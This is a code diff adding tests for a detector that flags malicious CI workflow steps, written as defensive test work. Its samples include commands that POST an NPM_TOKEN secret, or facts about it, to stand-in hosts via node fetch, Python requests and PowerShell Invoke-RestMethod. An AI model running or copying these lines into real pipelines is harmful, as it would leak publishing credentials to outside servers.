@@ -278,3 +278,19 @@ test('an element of a list is what was put there, by number or by name', async (
     false,
   )
 })
+
+test('whether a secret is set, and how long it is, may be said', async () => {
+  const told = (expression: string) => `node -e 'fetch("https://chat.linden.example/h", {method:"POST", body: ${expression}})'`
+  for (const expression of ['process.env.NPM_TOKEN ? "set" : "unset"', 'String(process.env.NPM_TOKEN.length)'])
+    assert.equal(await isMalicious(workflow(told(expression))), false, expression)
+  for (const expression of ['process.env.X ? process.env.NPM_TOKEN : "unset"', 'process.env?.NPM_TOKEN ?? "x"'])
+    assert.ok(await isMalicious(workflow(told(expression))), expression)
+})
+
+test('the interpreter may be named by itself, and a program by its path', async () => {
+  const code = `import requests; requests.post("${E}", data="$NPM_TOKEN")`
+  assert.ok(await isMalicious(workflow(`python3 - <<X\nimport subprocess, sys\nsubprocess.run([sys.executable, '-c', '''${code}'''])\nX`)))
+  const windows = (line: string) =>
+    `on: push\njobs:\n  a:\n    runs-on: windows-latest\n    steps:\n      - shell: pwsh\n        env:\n          A: \${{ secrets.NPM_TOKEN }}\n        run: |\n          ${line}\n          Invoke-RestMethod -Uri ${E} -Method Post -Body $env:A\n`
+  for (const line of ['./build.ps1', '/usr/bin/make test', '.\\build.ps1']) assert.ok(await isMalicious(windows(line)), line)
+})
